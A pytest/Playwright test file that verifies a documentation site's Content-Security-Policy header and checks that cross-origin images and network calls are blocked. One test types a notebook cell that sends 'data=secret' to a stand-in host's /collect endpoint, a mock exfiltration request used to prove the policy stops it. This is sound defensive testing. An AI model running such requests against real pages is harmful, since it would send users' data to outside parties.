"""The Content-Security-Policy (overrides/main.html): every page carries it,
before any script; the only inline scripts are Material's, each allowed by
its hash; and the browser itself blocks what reaches another origin, a
figure's image or a reader's cell alike. (That every page still works under
the policy is the whole browser suite's job: conftest.PageWatch fails a test
on any console error, and a violation is one.)"""
from __future__ import annotations

import base64
import hashlib
import re

import pytest
from playwright.sync_api import expect

from conftest import open_context

FOREIGN = "https://example.com"
META = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')
SCRIPT = re.compile(r"<script\b([^>]*)>(.*?)</script>", re.DOTALL)
VIOLATIONS = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.__violations.push({ directive: event.effectiveDirective, blocked: event.blockedURI });
});
"""


def policy_of(html: str) -> dict[str, list[str]]:
    match = META.search(html)
    assert match, "no Content-Security-Policy meta"
    directives = {}
    for part in match.group(1).split(";"):
        name, *values = part.split()
        directives[name] = values
    return directives


def pages(site):
    return sorted(path for path in site.rglob("*.html") if "assets" not in path.parts)


# The whole policy, directive by directive: what each kind of resource may come from.
# script-src also lists the hashes of Material's inline scripts; every inline script must be among them.
POLICY = {
    "default-src": ["'self'"],
    "script-src": ["'self'", "'wasm-unsafe-eval'"],
    "style-src": ["'self'", "'unsafe-inline'"],  # Material and Plotly set style attributes
    "img-src": ["'self'", "data:", "blob:"],
    "font-src": ["'self'"],
    "connect-src": ["'self'"],
    "worker-src": ["'self'", "blob:"],
    "object-src": ["'none'"],
    "base-uri": ["'self'"],
    "form-action": ["'self'"],
}


def inline_script_hashes(html: str) -> set[str]:
    hashes = set()
    for attributes, body in SCRIPT.findall(html):
        if "src=" in attributes or 'type="application/json"' in attributes:
            continue
        hashes.add("'sha256-" + base64.b64encode(hashlib.sha256(body.encode()).digest()).decode() + "'")
    return hashes


def test_every_page_has_the_whole_policy_before_any_script_and_only_hashed_inline_scripts(built_site):
    for path in pages(built_site):
        html = path.read_text(encoding="utf-8")
        policy = policy_of(html)
        first_script = html.find("<script")
        assert first_script < 0 or META.search(html).start() < first_script, f"{path}: a script comes before the policy"
        hashes = [value for value in policy.get("script-src", []) if value.startswith("'sha256-")]
        without_hashes = {name: [v for v in values if v not in hashes] for name, values in policy.items()}
        assert without_hashes == POLICY, f"{path}: the policy differs from the expected one"
        assert len(hashes) == len(set(hashes)), f"{path}: a hash is listed twice"
        page_hashes = inline_script_hashes(html)
        assert page_hashes <= set(hashes), f"{path}: an inline script the policy does not allow: {page_hashes - set(hashes)}"


def test_a_figure_with_an_image_at_another_origin_is_blocked(browser, site_url):
    context, watch = open_context(browser, site_url, viewport={"width": 1280, "height": 900})
    watch.allowed_console_errors.append("Content Security Policy")
    context.add_init_script(VIOLATIONS)
    page = context.new_page()
    page.goto(f"{site_url}notebooks/specimen-decoding/")
    page.evaluate(f"""() => import('{site_url}assets/js/json-figures.js').then(({{ showFigure }}) => {{
      const element = document.createElement('div');
      element.className = 'json-figure';
      element.id = 'foreign-image';
      document.querySelector('article').prepend(element);
      return showFigure(element, {{
        data: [{{ type: 'scatter', x: [0, 1], y: [0, 1] }}],
        layout: {{ title: {{ text: 'A figure asking for another origin' }},
                  images: [{{ source: '{FOREIGN}/tracker.png', xref: 'paper', yref: 'paper', x: 0, y: 1, sizex: 0.5, sizey: 0.5 }}] }},
      }});
    }})""")
    expect(page.locator("#foreign-image.json-figure--drawn")).to_be_visible()
    page.wait_for_function("() => window.__violations.length > 0")
    violations = page.evaluate("window.__violations")
    context.close()
    assert {"directive": "img-src", "blocked": f"{FOREIGN}/tracker.png"} in violations, violations
    assert not watch.foreign_requests, f"the image was requested: {watch.foreign_requests}"


def test_a_cell_reaching_another_origin_is_blocked(browser, site_url):
    context, watch = open_context(browser, site_url, viewport={"width": 1280, "height": 900})
    watch.allowed_console_errors.append("Content Security Policy")
    page = context.new_page()
    page.goto(f"{site_url}notebooks/specimen-decoding/")
    page.get_by_role("button", name="Run in browser").click()
    cell = page.locator(".live-cell").first
    content = cell.locator(".cm-content")
    content.click()
    page.keyboard.press("Control+A")
    page.keyboard.insert_text(
        "import js\n"
        "request = js.XMLHttpRequest.new()\n"
        f"request.open('GET', '{FOREIGN}/collect?data=secret', False)\n"
        "request.send()\n"
        "print('sent', request.status)")
    cell.get_by_role("button", name="Run", exact=True).click()
    expect(cell).to_have_attribute("data-live-state", "error", timeout=90_000)
    traceback = cell.locator(".live-output__error").inner_text()
    context.close()
    assert "NetworkError" in traceback or "Failed to execute" in traceback, traceback
    assert not watch.foreign_requests, f"the cell reached another origin: {watch.foreign_requests}"
    assert not watch.console_errors, watch.console_errors


@pytest.mark.parametrize("path", ["", "notebooks/specimen-scaling/"])
def test_pages_work_under_the_policy(watched, site_url, path):
    """The policy is enforced and nothing the pages need is refused (a violation is a console error)."""
    page, watch = watched
    page.add_init_script(VIOLATIONS)
    page.goto(site_url + path)
    expect(page.locator("article h1").first).to_be_visible()
    page.evaluate("() => new Promise((resolve) => requestIdleCallback(resolve, { timeout: 3000 }))")
    for figure in page.locator(".json-figure").all()[:2]:
        figure.scroll_into_view_if_needed()
        expect(figure).to_have_class(re.compile("json-figure--drawn"))
    assert page.evaluate("window.__violations") == []
